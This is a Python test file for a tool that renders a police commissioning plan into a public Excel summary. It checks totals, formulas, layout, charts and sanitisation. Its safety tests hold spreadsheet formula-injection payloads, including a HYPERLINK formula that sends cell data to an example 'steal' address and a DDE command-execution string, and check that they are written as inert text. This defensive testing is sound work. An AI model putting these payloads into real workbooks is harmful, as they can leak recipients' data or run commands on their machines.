"""The public Excel summary: seed figures, live totals that carry their values, safety.

Outputs are read back with openpyxl (cell values, formulas, formats) and, for recalculation,
opened in LibreOffice with a profile that recalculates every formula on load.
"""

from __future__ import annotations

import io
import re
import subprocess
import zipfile
from collections.abc import Iterator
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlsxwriter

from pipeline import summary_layout, summary_worksheet
from pipeline.compare import compare
from pipeline.load import load
from pipeline.reconcile import Reconciliation, reconcile
from pipeline.render_xlsx import (
    LICENCE,
    LICENCE_URL,
    render_xlsx,
    sheet_names,
    summary_name,
)
from pipeline.report import Report
from pipeline.summary_funds import LINE_COLUMNS
from pipeline.summary_layout import text_width
from pipeline.textsafe import CUT_NOTE, MAX_CELL_TEXT
from tests.office import convert, pdf_text, pdftotext
from tests.workbooks import make_workbook, sample_content, service_row

# Appendix 3 of the seed decision, in its order.
SEED_VICTIMS = [260_000, 100_000, 20_000, 80_000, 90_000, 82_661, 18_351, 43_600, 100_000, 10_600]
SEED_CSF = [
    172_900,
    74_933,
    6_000,
    40_000,
    4_400,
    22_000,
    11_000,
    5_000,
    25_000,
    78_000,
    18_075,
    3_000,
    3_000,
    750,
]

# Independent of the renderer's own patterns: what a reviewer would search a file for.
EMAIL = re.compile(r"[\w.+-]+@[\w-]+\.[\w.-]+")
UK_PHONE = re.compile(r"(?:\+44\s?(?:\(0\)\s?)?|\b0)\d{2,4}[\s.-]?\d{3,4}[\s.-]?\d{3,4}\b")


def render(recon: Reconciliation, folder: Path, name: str = "summary.xlsx", **options: Any) -> Path:
    path = folder / name
    render_xlsx(Report.of(recon), path, **options)
    return path


def recon_of(path: Path) -> Reconciliation:
    result = load(path)
    assert result.plan is not None, result.findings
    return reconcile(result.plan)


def money(value: object) -> Decimal:
    """A cell's number as exact money (openpyxl gives floats)."""
    assert isinstance(value, (int, float)), value
    return Decimal(repr(value)).quantize(Decimal("0.01"))


def rows(ws: Any) -> list[tuple[Any, ...]]:
    return list(ws.iter_rows(values_only=True))


def table_rows(
    ws: Any, name: str | None = None
) -> tuple[list[str], list[tuple[Any, ...]], tuple[Any, ...]]:
    """Header, data rows and total row of the table ``name`` (or of the sheet's one table)."""
    if name is None:
        [table] = ws.tables.values()
    else:
        table = ws.tables[name]
    grid = [tuple(c.value for c in row) for row in ws[table.ref]]
    return list(grid[0]), grid[1:-1], grid[-1]


FUNDS_TABLE, SOURCES_TABLE = "Summary_by_fund", "Summary_funding_sources"
SUMMARY_HEADER = [
    "Fund",
    "Allocation (£)",
    "MoJ grants (£)",
    "Other funding (£)",
    "Committed (£)",
    "Uncommitted (£)",
    "% committed",
]
SOURCES_HEADER = ["Fund", "Source", "Ring-fenced", "Grant reference", "Amount (£)"]


def summary_funds(ws: Any) -> tuple[list[tuple[Any, ...]], tuple[Any, ...]]:
    """The Summary's fund rows and total row (values), after checking the header."""
    header, funds, total = table_rows(ws, FUNDS_TABLE)
    assert header == SUMMARY_HEADER
    return funds, total


def summary_sources(ws: Any) -> tuple[list[tuple[Any, ...]], tuple[Any, ...]]:
    header, sources, total = table_rows(ws, SOURCES_TABLE)
    assert header == SOURCES_HEADER
    return sources, total


def all_cells(wb: Any) -> Iterator[tuple[str, Any]]:
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield f"{ws.title}!{cell.coordinate}", cell


@pytest.fixture(scope="module")
def sample_xlsx(sample_recon: Reconciliation, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return render(
        sample_recon, tmp_path_factory.mktemp("xlsx"), summary_name(sample_recon.decision)
    )


# -- the seed's figures -----------------------------------------------------------------------


def test_file_name_follows_the_financial_year(sample_recon: Reconciliation) -> None:
    assert summary_name(sample_recon.decision) == "commissioning-summary-2021-22.xlsx"


def test_sheets_are_summary_one_per_fund_and_about(sample_xlsx: Path) -> None:
    wb = openpyxl.load_workbook(sample_xlsx)
    # Commitments: the lines that run beyond the year (issue #18)
    assert wb.sheetnames == [
        "Summary",
        "Victims Fund",
        "Community Safety Fund",
        "Commitments",
        "About",
    ]


@pytest.mark.parametrize(
    ("sheet", "budgets", "total"),
    [
        ("Victims Fund", SEED_VICTIMS, 805_212),
        ("Community Safety Fund", SEED_CSF, 464_058),
    ],
)
def test_every_line_and_total_matches_the_seed(
    sample_xlsx: Path, sample_recon: Reconciliation, sheet: str, budgets: list[int], total: int
) -> None:
    ws = openpyxl.load_workbook(sample_xlsx, data_only=True)[sheet]
    header, lines, total_row = table_rows(ws)
    assert header == [
        "Service",
        "Delivery organisation",
        "Provision",
        "Start date",
        "End date",
        "Extension options",
        "Mechanism",
        "How commissioned",
        "2021/22 budget (£)",
    ]
    assert [money(line[-1]) for line in lines] == [Decimal(b) for b in budgets]
    assert sum(budgets) == total
    assert total_row[0] == "Total"
    assert money(total_row[-1]) == total
    expected = [ln for ln in sample_recon.plan.lines if ln.fund == sheet]
    assert [line[0] for line in lines] == [ln.service for ln in expected]
    assert [line[1] for line in lines] == [ln.organisation for ln in expected]
    assert [line[3].date() for line in lines] == [ln.start for ln in expected]
    assert [line[4].date() for line in lines] == [ln.end for ln in expected]


def test_the_sample_has_24_lines(sample_xlsx: Path) -> None:
    wb = openpyxl.load_workbook(sample_xlsx)
    assert sum(len(table_rows(wb[s])[1]) for s in ("Victims Fund", "Community Safety Fund")) == 24


def test_summary_rows_carry_allocation_moj_other_committed_and_uncommitted(
    sample_xlsx: Path,
) -> None:
    ws = openpyxl.load_workbook(sample_xlsx, data_only=True)["Summary"]
    funds, total = summary_funds(ws)
    as_money = [[row[0], *(money(v) for v in row[1:-1])] for row in [*funds, total]]
    # Victims Fund £1,009,000 = MoJ £884,000 + local £125,000; CSF £556,000 police main grant.
    assert as_money == [
        ["Victims Fund", 1_009_000, 884_000, 125_000, 805_212, 203_788],
        ["Community Safety Fund", 556_000, 0, 556_000, 464_058, 91_942],
        ["Total", 1_565_000, 884_000, 681_000, 1_269_270, 295_730],
    ]
    assert [round(row[-1], 4) for row in [*funds, total]] == [0.798, 0.8346, 0.811]


def test_summary_lists_every_funding_source(sample_xlsx: Path) -> None:
    ws = openpyxl.load_workbook(sample_xlsx, data_only=True)["Summary"]
    sources, total = summary_sources(ws)
    assert [(*row[:4], money(row[4])) for row in sources] == [
        ("Victims Fund", "MoJ Victims' Services Grant", "Yes", None, 884_000),
        ("Victims Fund", "Local supplement", "No", None, 125_000),
        ("Community Safety Fund", "Police main grant", "No", None, 556_000),
    ]
    assert total[0] == "Total" and money(total[-1]) == 1_565_000
    heading = ws.tables[SOURCES_TABLE].ref.split(":")[0]  # A23: two rows under its heading
    assert ws[f"A{int(heading[1:]) - 2}"].value == "Funding sources"


def test_moj_and_other_funding_add_up_the_funds_sources(sample_xlsx: Path) -> None:
    ws = openpyxl.load_workbook(sample_xlsx)["Summary"]
    assert ws.tables[SOURCES_TABLE].ref == "A23:E27"  # header, 3 sources, total
    assert ws["C4"].value == "=SUM(E24)"  # MoJ Victims' Services Grant
    assert ws["D4"].value == "=SUM(E25)"  # Local supplement
    assert ws["C5"].value == 0  # the Community Safety Fund has no MoJ money: nothing to add
    assert ws["D5"].value == "=SUM(E26)"  # Police main grant
    assert ws["E27"].value == "=SUM(E24:E26)"
    with zipfile.ZipFile(sample_xlsx) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    # Summing some of the sources' cells is meant: no warning marks in Excel.
    assert '<ignoredError sqref="C4:D5" formulaRange="1"/>' in sheet
    assert '<ignoredError sqref="C4:D5" formula="1"/>' in sheet


def test_committed_links_to_each_fund_sheets_total(sample_xlsx: Path) -> None:
    ws = openpyxl.load_workbook(sample_xlsx)["Summary"]
    assert ws["E4"].value == "='Victims Fund'!I14"
    assert ws["E5"].value == "='Community Safety Fund'!I18"
    assert ws["F4"].value == "=B4-E4"
    assert ws["G4"].value == "=IF(B4=0,0,E4/B4)"
    assert [ws[f"{col}6"].value for col in "BCDEF"] == [f"=SUM({c}4:{c}5)" for c in "BCDEF"]
    assert openpyxl.load_workbook(sample_xlsx)["Victims Fund"]["I14"].value == "=SUM(I4:I13)"


# -- formulas: cached values, and LibreOffice's recalculation --------------------------------

_SUM = re.compile(r"SUM\(((?:[A-Z]+\d+(?::[A-Z]+\d+)?,?)+)\)")
_REF = re.compile(r"([A-Z]+)(\d+)")
_DIFFERENCE = re.compile(r"([A-Z]+\d+)-([A-Z]+\d+)")
_RATIO = re.compile(r"IF\(([A-Z]+\d+)=0,0,([A-Z]+\d+)/\1\)")
_LINK = re.compile(r"'((?:[^']|'')+)'!([A-Z]+\d+)|([A-Za-z]\w*)!([A-Z]+\d+)")


def expected_value(wb: Any, sheet: str, formula: str) -> Decimal:
    """Evaluate one of the summary's formula shapes in Decimal over the cached inputs."""
    text = formula.removeprefix("=")

    def number(sheet_name: str, ref: str) -> Decimal:
        return Decimal(repr(wb[sheet_name][ref].value))

    if m := _SUM.fullmatch(text):  # SUM(E24), SUM(I4:I13), SUM(E15,E17:E18)
        total = Decimal(0)
        for part in m.group(1).split(","):
            (col, first), (_, last) = (
                _REF.fullmatch(ref).groups()  # type: ignore[union-attr]
                for ref in (part.split(":") * 2)[:2]
            )
            total += sum(
                (number(sheet, f"{col}{r}") for r in range(int(first), int(last) + 1)), Decimal(0)
            )
        return total
    if m := _DIFFERENCE.fullmatch(text):
        return number(sheet, m.group(1)) - number(sheet, m.group(2))
    if m := _RATIO.fullmatch(text):
        whole = number(sheet, m.group(1))
        return number(sheet, m.group(2)) / whole if whole else Decimal(0)
    if m := _LINK.fullmatch(text):
        target = m.group(1).replace("''", "'") if m.group(1) else m.group(3)
        return number(target, m.group(2) or m.group(4))
    raise AssertionError(f"{sheet}: a formula shape the test does not know: {formula}")


def formula_cells(path: Path) -> list[tuple[str, str, str]]:
    wb = openpyxl.load_workbook(path)
    return [
        (ws.title, c.coordinate, str(c.value))
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def test_every_formula_caches_the_decimal_result(sample_xlsx: Path) -> None:
    formulas = formula_cells(sample_xlsx)
    # Two fund totals; per fund row MoJ (Victims only), other, committed, uncommitted, %; the
    # funds table's total row; the sources table's total.
    # and the Commitments sheet's total per later year (2022/23 to 2026/27)
    assert len(formulas) == 2 + (5 + 4) + 6 + 1 + 5
    cached = openpyxl.load_workbook(sample_xlsx, data_only=True)
    for sheet, ref, formula in formulas:
        value = cached[sheet][ref].value
        assert value is not None, f"{sheet}!{ref} {formula} has no cached value"
        expected = expected_value(cached, sheet, formula)
        if "/" in formula:
            assert abs(Decimal(repr(value)) - expected) < Decimal("1e-9"), (sheet, ref)
        else:
            assert money(value) == expected, f"{sheet}!{ref} {formula}: {value} != {expected}"


@pytest.fixture(scope="module")
def recalculated(sample_xlsx: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return convert(sample_xlsx, "xlsx", tmp_path_factory.mktemp("recalculated"))


@pytest.mark.slow
def test_libreoffice_recalculates_to_the_cached_totals(
    sample_xlsx: Path, recalculated: Path
) -> None:
    cached = openpyxl.load_workbook(sample_xlsx, data_only=True)
    fresh = openpyxl.load_workbook(recalculated, data_only=True)
    assert fresh.sheetnames == cached.sheetnames
    for sheet, ref, formula in formula_cells(sample_xlsx):
        before, after = cached[sheet][ref].value, fresh[sheet][ref].value
        assert isinstance(after, (int, float)), f"{sheet}!{ref} {formula} recalculated to {after}"
        if "/" in formula:
            assert after == pytest.approx(before, abs=1e-9), (sheet, ref, formula)
        else:
            assert money(after) == money(before), (sheet, ref, formula)
    assert money(fresh["Victims Fund"]["I14"].value) == 805_212
    assert money(fresh["Community Safety Fund"]["I18"].value) == 464_058
    assert money(fresh["Summary"]["E6"].value) == 1_269_270
    assert [money(fresh["Summary"][f"{col}4"].value) for col in "CD"] == [884_000, 125_000]
    assert money(fresh["Summary"]["E27"].value) == 1_565_000


@pytest.mark.slow
def test_libreoffice_really_recalculates(sample_xlsx: Path, tmp_path: Path) -> None:
    """A wrong cached total comes back right, so the test above checks the formulas."""
    tampered = tmp_path / "tampered.xlsx"
    with zipfile.ZipFile(sample_xlsx) as source, zipfile.ZipFile(tampered, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet2.xml":  # Victims Fund
                data, count = re.subn(
                    rb"(<f>SUM\(I4:I13\)</f><v>)[^<]*(</v>)", rb"\g<1>1\g<2>", data
                )
                assert count == 1
            target.writestr(item, data)
    assert openpyxl.load_workbook(tampered, data_only=True)["Victims Fund"]["I14"].value == 1
    fresh = openpyxl.load_workbook(convert(tampered, "xlsx", tmp_path / "out"), data_only=True)
    assert money(fresh["Victims Fund"]["I14"].value) == 805_212


def test_totals_are_plain_sums_never_subtotal(sample_xlsx: Path) -> None:
    # LibreOffice 7.4 recalculates a table's SUBTOTAL(109,[Column]) total to #NAME?.
    assert not [f for f in formula_cells(sample_xlsx) if "SUBTOTAL" in f[2].upper()]


# -- layout and accessibility -----------------------------------------------------------------


def test_sheets_are_set_up_for_reading_and_printing(sample_xlsx: Path) -> None:
    wb = openpyxl.load_workbook(sample_xlsx)
    names = [name for ws in wb.worksheets for name in ws.tables]
    assert names == [
        "Summary_by_fund",
        "Summary_funding_sources",
        "Services_Victims_Fund",
        "Services_Community_Safety_Fund",
        "Commitments_beyond_the_year",
        "About_this_summary",
    ]
    for ws in wb.worksheets:
        assert not ws.merged_cells.ranges, ws.title
        assert ws.page_setup.orientation == "landscape", ws.title
        # fitToWidth is left out when it is 1, its default.
        assert ws.page_setup.fitToWidth in (None, 1), ws.title
        assert ws.page_setup.fitToHeight == 0, ws.title
        fit = ws.sheet_properties.pageSetUpPr
        assert fit is not None and fit.fitToPage, ws.title
        if ws.title == "Summary":
            # Two tables, one under the other: one's header must not print over the other.
            assert ws.print_title_rows is None and ws.freeze_panes is None
        else:
            assert ws.print_title_rows == "$3:$3", ws.title
            assert ws.freeze_panes == "B4", ws.title
        assert ws["A1"].font.b, ws.title  # a title in A1 says what the sheet holds
        assert ws.column_dimensions["A"].width > 10


def test_money_and_date_formats(sample_xlsx: Path) -> None:
    wb = openpyxl.load_workbook(sample_xlsx)
    victims, csf = wb["Victims Fund"], wb["Community Safety Fund"]
    assert victims["I4"].number_format == "£#,##0;[Red]-£#,##0"
    assert victims["I14"].number_format == "£#,##0;[Red]-£#,##0"
    assert wb["Summary"]["B4"].number_format == "£#,##0;[Red]-£#,##0"
    assert wb["Summary"]["C5"].number_format == "£#,##0;[Red]-£#,##0"  # a plain 0 too
    assert wb["Summary"]["G4"].number_format == "0.0%"
    assert wb["Summary"]["E24"].number_format == "£#,##0;[Red]-£#,##0"
    # Headers over figures are aligned with them, on the right.
    assert [wb["Summary"][f"{col}3"].alignment.horizontal for col in "ABG"] == [
        None,
        "right",
        "right",
    ]
    assert wb["Summary"]["E23"].alignment.horizontal == "right"
    assert victims["D4"].number_format == "dd/mm/yyyy"
    # The seed types the Community Safety Fund's dates as months: shown as months.
    assert csf["D4"].number_format == "mmmm yyyy"
    assert csf["E4"].value == datetime(2022, 3, 31)


def test_summary_has_a_titled_chart_with_axis_names_and_alt_text(sample_xlsx: Path) -> None:
    with zipfile.ZipFile(sample_xlsx) as archive:
        chart = archive.read("xl/charts/chart1.xml").decode()
        drawing = archive.read("xl/drawings/drawing1.xml").decode()
    assert '<c:barDir val="bar"/>' in chart and '<c:grouping val="stacked"/>' in chart
    for text in ("Committed and uncommitted by fund, 2021/22", "Pounds (£)", "Fund"):
        assert f"<a:t>{text}</a:t>" in chart
    assert "Summary!$E$4:$E$5" in chart and "Summary!$F$4:$F$5" in chart
    # The value axis starts at £0 (funds of £1.56m and £1.65m were drawn from £1.4m, one
    # twice the other's length); the fund axis has no minimum.
    value_axis = re.search(r"<c:valAx>.*</c:valAx>", chart, re.S)
    assert value_axis and '<c:min val="0"/>' in value_axis.group()
    assert chart.count("<c:min ") == 1
    # Its text is marked en-GB, as the workbook is (xlsxwriter writes en-US).
    assert '<c:lang val="en-GB"/>' in chart and 'lang="en-GB"' in chart and "en-US" not in chart
    assert "Victims Fund: £805,212 committed, £203,788 uncommitted" in drawing
    # Between the funds table (total in row 6) and the Funding sources heading (row 21).
    start, end = (int(row) for row in re.findall(r"<xdr:row>(\d+)</xdr:row>", drawing))
    assert (start, end) == (7, 19)  # 0-based: rows 8 to 20


def test_about_names_the_decision_source_and_licence(sample_xlsx: Path) -> None:
    ws = openpyxl.load_workbook(sample_xlsx)["About"]
    about = {row[0]: row[1] for row in rows(ws)[3:]}
    assert about["Decision reference"] == "015/2021"
    assert about["Decision date"] == datetime(2021, 5, 28)
    assert about["Police area"] == "Lincolnshire"
    assert about["Financial year"] == "2021/22"
    assert "Request for Decision 015/2021" in about["Source"]
    # The decision date is the decision date: no "Generated" row claims it is the build time.
    assert "Generated" not in about
    assert list(about.values()).count(datetime(2021, 5, 28)) == 1
    assert about["Licence"] == LICENCE == "Open Government Licence v3.0"
    assert about["Licence address"] == LICENCE_URL
    assert ws["B17"].hyperlink.target == LICENCE_URL
    assert "pounds" in about["Figures"]


def test_a_generated_time_can_be_given(sample_recon: Reconciliation, tmp_path: Path) -> None:
    stamp = datetime(2021, 6, 1, 9, 30)
    wb = openpyxl.load_workbook(render(sample_recon, tmp_path, generated=stamp))
    assert {row[0]: row[1] for row in rows(wb["About"])[3:]}["Generated"] == stamp
    assert wb.properties.created == stamp


# -- determinism ------------------------------------------------------------------------------


def test_same_input_gives_identical_bytes(sample_recon: Reconciliation, tmp_path: Path) -> None:
    first, second = io.BytesIO(), io.BytesIO()
    render_xlsx(Report.of(sample_recon), first)
    render_xlsx(Report.of(sample_recon), second)
    assert first.getvalue() == second.getvalue()
    assert render(sample_recon, tmp_path).read_bytes() == first.getvalue()


# -- safety -----------------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://example.com/steal?x="&A1,"Click here")',
    "+44 1522 ...",
    "@x",
    "-2+3",
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
]


def test_formula_like_text_is_written_as_text(tmp_path: Path) -> None:
    services = [
        service_row(
            service=text,
            organisation=text,
            provision=text,
            how_commissioned=text,
            budget=Decimal(1000 + i),
        )
        for i, text in enumerate(HOSTILE)
    ]
    sources = [
        ["Victims Fund", "=cmd|' /C calc'!A0", Decimal(1_009_000), "Yes", ""],
        ["Community Safety Fund", "Police main grant", Decimal(556_000), "No", ""],
    ]
    recon = recon_of(make_workbook(tmp_path, services=services, sources=sources))
    path = render(recon, tmp_path)
    wb = openpyxl.load_workbook(path)
    _, lines, _ = table_rows(wb["Victims Fund"])
    for line, text in zip(lines, HOSTILE, strict=True):
        assert [line[0], line[1], line[2], line[7]] == [text] * 4
    for col in "ABCH":
        for row in range(4, 4 + len(HOSTILE)):
            cell = wb["Victims Fund"][f"{col}{row}"]
            assert cell.data_type == "s", cell.coordinate
            assert cell.quotePrefix, cell.coordinate  # stays text if edited in Excel
    summary = wb["Summary"]
    [source] = [c for row in summary.iter_rows() for c in row if c.value == sources[0][1]]
    assert source.coordinate == "B24" and source.data_type == "s" and source.quotePrefix
    with zipfile.ZipFile(path) as archive:
        sheets = b"".join(archive.read(n) for n in archive.namelist() if "worksheets/" in n)
    formulas = b"\n".join(re.findall(rb"<f>(.*?)</f>", sheets))
    assert b"SUM(I4:I9)" in formulas  # the total, and nothing typed by a person
    for fragment in (b"HYPERLINK", b"cmd", b"@", b"2+3", b"|"):
        assert fragment not in formulas


def test_text_longer_than_a_cell_holds_is_cut_and_says_so() -> None:
    # XlsxWriter cut a 40,000-character Provision (typed into a plan saved by another tool)
    # to Excel's 32,767 without a word: the public reader could not tell the text stops short.
    # Every text cell of the summary is written as public_text.
    long = "Outreach and advocacy for victims " * 1200
    cell = summary_layout.public_text(long)
    assert len(cell) <= MAX_CELL_TEXT and cell.endswith(CUT_NOTE)
    assert long.startswith(cell.removesuffix(CUT_NOTE))


def test_bidi_and_zero_width_characters_never_reach_the_summary(tmp_path: Path) -> None:
    hidden = "\u202e\u2066\u200b\u200d\ufeff\u2060\u200f"

    def plant(content: Any) -> None:
        content.decision = [
            (name, f"Commissioning{hidden} plan") if name == "Subject" else (name, value)
            for name, value in content.decision
        ]
        services = [row for row in content.services if row[0] == "Victims Fund"]
        services[0][1] = "Victim\u202eecivreS"  # shown reversed by a bidi-aware reader
        services[1][4] = f"Outreach{hidden} and advocacy"
        content.sources[0][1] = "MoJ\u200b Victims\ufeff Grant"

    recon = recon_of(make_workbook(tmp_path, edit=plant))
    path = render(recon, tmp_path)
    wb = openpyxl.load_workbook(path)
    assert wb["Victims Fund"]["A4"].value == "VictimecivreS"
    assert wb["Victims Fund"]["C5"].value == "Outreach and advocacy"
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            xml = archive.read(name).decode("utf-8")
            assert not set(hidden) & set(xml), name


def test_no_personal_data_anywhere_in_the_file(tmp_path: Path) -> None:
    def plant(content: Any) -> None:
        content.decision = [
            (name, "Joanne Davison, jo.davison@lincs.police.uk, Telephone 01522 947406")
            if name == "Contact officer"
            else (name, value)
            for name, value in content.decision
        ]
        services = [row for row in content.services if row[0] == "Victims Fund"]
        services[0][4] = "Outreach; referrals to jo.bloggs@victimsupport.org.uk or 01522 947406"
        services[1][9] = "Ask +44 (0)7700 900123 about procurement"
        services[2][7] = "Extension: ring 0800 123 4567"
        services[3][4] = "Ring 01522.947.406 or write to jo@bücher.example"
        content.sources[1][4] = "Ask jo.davison@lincs.police.uk or 01522 947406"

    recon = recon_of(make_workbook(tmp_path, edit=plant))
    path = render(recon, tmp_path)
    wb = openpyxl.load_workbook(path)
    for where, cell in all_cells(wb):
        text = str(cell.value)
        assert not EMAIL.search(text), f"{where}: {text}"
        assert not UK_PHONE.search(text), f"{where}: {text}"
        for secret in ("Davison", "JD", "Partnership and Delivery Manager"):
            assert secret not in text, f"{where}: {text}"
    assert wb["Victims Fund"]["C4"].value == "Outreach; referrals to [removed] or [removed]"
    assert wb["Summary"]["D25"].value == "Ask [removed] or [removed]"  # a grant reference
    # Nothing in any part of the file either: properties, chart, alt text, shared strings.
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            xml = archive.read(name).decode("utf-8", "replace")
            assert not EMAIL.search(xml), name
            assert not UK_PHONE.search(xml), name
            assert "Davison" not in xml, name


# -- funds: names, pence, several MoJ streams --------------------------------------------------

LONG_A = "Serious Violence Reduction Partnership A"  # 40 characters
LONG_B = "Serious Violence Reduction Partnership B"  # differs only after the 31st
ODD = "Safer Streets [Round 4]: Lincoln/Boston?"


def funds_workbook(
    tmp_path: Path,
    names: list[str],
    budgets: list[Decimal] | None = None,
) -> Reconciliation:
    """One line and one source per fund; allocations of £100,000."""
    budgets = budgets or [Decimal(1000 * (i + 1)) for i in range(len(names))]
    funds = [[name, Decimal(100_000), "Section 143 ASBCPA 2014", "A fund."] for name in names]
    sources = [[name, "Home Office grant", Decimal(100_000), "No", ""] for name in names]
    services = [
        service_row(fund=name, service=f"Service {i}", budget=budget)
        for i, (name, budget) in enumerate(zip(names, budgets, strict=True))
    ]
    return recon_of(make_workbook(tmp_path, funds=funds, sources=sources, services=services))


def test_long_similar_and_odd_fund_names_get_unique_valid_sheets(tmp_path: Path) -> None:
    assert len(LONG_A) == 40
    names = [LONG_A, LONG_B, ODD, "summary"]
    recon = funds_workbook(tmp_path, names)
    wb = openpyxl.load_workbook(render(recon, tmp_path))
    fund_sheets = wb.sheetnames[1:-1]
    assert fund_sheets == [
        "Serious Violence Reduction",  # cut between words, not "… Part"
        "Serious Violence Reduction (2)",
        "Safer Streets Round 4 Lincoln",
        "summary (2)",
    ]
    assert len({s.casefold() for s in wb.sheetnames}) == len(wb.sheetnames)
    for sheet, name in zip(fund_sheets, names, strict=True):
        assert len(sheet) <= 31 and not set(sheet) & set("[]:*?/\\")
        # The full name is on the sheet and on the Summary, so readers can tell them apart.
        assert wb[sheet]["A1"].value.startswith(name)
    funds, _ = summary_funds(wb["Summary"])
    assert [row[0] for row in funds] == names
    # Each fund's committed figure links to its own sheet.
    committed = [wb["Summary"][f"E{4 + i}"].value for i in range(len(names))]
    assert committed == [f"='{s}'!I5" for s in fund_sheets]
    cached = openpyxl.load_workbook(render(recon, tmp_path), data_only=True)["Summary"]
    assert [money(cached[f"E{4 + i}"].value) for i in range(4)] == [1000, 2000, 3000, 4000]
    sources, _ = summary_sources(cached)
    assert [row[0] for row in sources] == names


FORMULA_FUND = "=SUM(A1:A9)+Fund"
RTL_FUND = "صندوق الضحايا"


def test_a_fund_named_like_a_formula_keeps_its_sheet_titles_style(tmp_path: Path) -> None:
    # Written as quoted text, the title had lost its size and boldness and wrapped in column
    # A, its lines running into the note under it.
    wb = openpyxl.load_workbook(render(funds_workbook(tmp_path, [FORMULA_FUND]), tmp_path))
    title, plain = wb.worksheets[1]["A1"], wb.worksheets[2]["A1"]  # the fund's, the About's
    assert title.value == f"{FORMULA_FUND}: services commissioned in 2021/22"
    assert title.data_type == "s" and title.quotePrefix
    assert (title.font.b, title.font.sz, title.alignment.wrap_text) == (True, 14, None)
    assert (plain.font.b, plain.font.sz) == (title.font.b, title.font.sz)


def test_right_to_left_text_starts_at_the_left_like_the_rest(tmp_path: Path) -> None:
    # Excel and LibreOffice align a cell whose text starts in Arabic or Hebrew to the right
    # ("General" alignment): a title then runs off the left edge of the page and a name sits
    # against the next column. Text cells are aligned left explicitly.
    recon = funds_workbook(tmp_path, [RTL_FUND])
    wb = openpyxl.load_workbook(render(recon, tmp_path))
    fund = wb.worksheets[1]
    assert fund["A1"].value.startswith(RTL_FUND)
    assert fund["A1"].alignment.horizontal == "left"
    [name] = [c for row in wb["Summary"].iter_rows() for c in row if c.value == RTL_FUND][:1]
    assert name.alignment.horizontal == "left"


@pytest.mark.slow
def test_a_right_to_left_fund_title_prints_whole(tmp_path: Path) -> None:
    recon = funds_workbook(tmp_path, [RTL_FUND])
    text = pdf_text(convert(render(recon, tmp_path), "pdf", tmp_path / "pdf"))
    assert "services commissioned in 2021/22" in text


LONG_FUND = (
    "Serious Violence Duty Partnership Fund for knife crime, exploitation and county lines "
    "across Lincolnshire"
)
# Longer still: at 14 points its title ran far past the table and the sheet printed tiny.
LONGER_FUND = f"{LONG_FUND}, its districts and the City of Lincoln, with partners"


def test_a_long_fund_name_makes_its_title_smaller_not_the_sheet(tmp_path: Path) -> None:
    # A title runs over the columns beside it (it is never merged or wrapped); LibreOffice fits
    # the sheet to the page *with* that text, so the table printed at a third of its size.
    wb = openpyxl.load_workbook(render(funds_workbook(tmp_path, [LONG_FUND]), tmp_path))
    fund = wb.worksheets[1]
    title = fund["A1"]
    assert title.value == f"{LONG_FUND}: services commissioned in 2021/22"
    table_width = sum(fund.column_dimensions[col].width for col in "ABCDEFGHI")
    assert 8 <= title.font.sz < 14 and title.font.b
    assert len(title.value) * title.font.sz <= table_width * 11
    short = openpyxl.load_workbook(render(funds_workbook(tmp_path, ["Victims Fund"]), tmp_path))
    assert short.worksheets[1]["A1"].font.sz == 14


@pytest.mark.slow
def test_a_long_fund_name_prints_its_table_at_full_size(tmp_path: Path) -> None:
    pdf = convert(render(funds_workbook(tmp_path, [LONGER_FUND]), tmp_path), "pdf", tmp_path)
    boxes = subprocess.run(
        [pdftotext(), "-bbox", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    heights = [
        float(m.group(2)) - float(m.group(1))
        for m in re.finditer(r'yMin="([\d.]+)" xMax="[\d.]+" yMax="([\d.]+)">Provision<', boxes)
    ]
    assert heights and min(heights) > 10  # 11-point text; it was under 6 points


MANY_FUNDS = [f"Fund number {i} & partners" for i in range(30)]


@pytest.mark.parametrize("in_memory", [False, True])
def test_a_charts_text_is_marked_en_gb_however_the_workbook_is_written(
    tmp_path: Path, in_memory: bool
) -> None:
    from pipeline.xlsx_language import workbook_class

    target = tmp_path / "chart.xlsx"
    workbook = workbook_class()(str(target), {"in_memory": in_memory})
    sheet = workbook.add_worksheet()
    sheet.write_column(0, 0, ['lang="en-US"', 5])  # text in the chart's cache is left alone
    chart = workbook.add_chart({"type": "bar"})
    chart.add_series({"categories": "=Sheet1!$A$1", "values": "=Sheet1!$A$2"})
    chart.set_title({"name": "Title"})
    sheet.insert_chart(3, 0, chart)
    workbook.close()
    with zipfile.ZipFile(target) as archive:
        xml = archive.read("xl/charts/chart1.xml").decode()
    assert '<c:lang val="en-GB"/>' in xml and '<a:rPr lang="en-GB"' in xml
    assert xml.count("en-US") == xml.count('lang="en-US"</c:v>') == 1


def test_a_chart_of_many_funds_starts_a_page_and_fits_on_it(tmp_path: Path) -> None:
    wb = openpyxl.load_workbook(render(funds_workbook(tmp_path, MANY_FUNDS), tmp_path))
    # 3 rows above the table, 30 funds, the total row, a blank row: the chart's row, 0-based.
    assert [b.id for b in wb["Summary"].row_breaks.brk] == [35]
    with zipfile.ZipFile(render(funds_workbook(tmp_path, MANY_FUNDS), tmp_path)) as archive:
        [drawing] = [n for n in archive.namelist() if re.fullmatch(r"xl/drawings/\w+\.xml", n)]
        rows_spanned = re.findall(rb"<xdr:row>(\d+)</xdr:row>", archive.read(drawing))
    top, bottom = (int(r) for r in rows_spanned)
    assert top == 35 and (bottom - top) * 20 <= 600  # pixels: within one printed page
    few = openpyxl.load_workbook(render(funds_workbook(tmp_path, ["A", "B"]), tmp_path))
    assert few["Summary"].row_breaks.brk == []


@pytest.mark.slow
def test_a_chart_of_many_funds_prints_whole_on_one_page(tmp_path: Path) -> None:
    pdf = convert(render(funds_workbook(tmp_path, MANY_FUNDS), tmp_path), "pdf", tmp_path)
    pages = pdf_text(pdf).split("\f")
    [page] = [p for p in pages if "Pounds (£)" in p]  # the axis under the bars
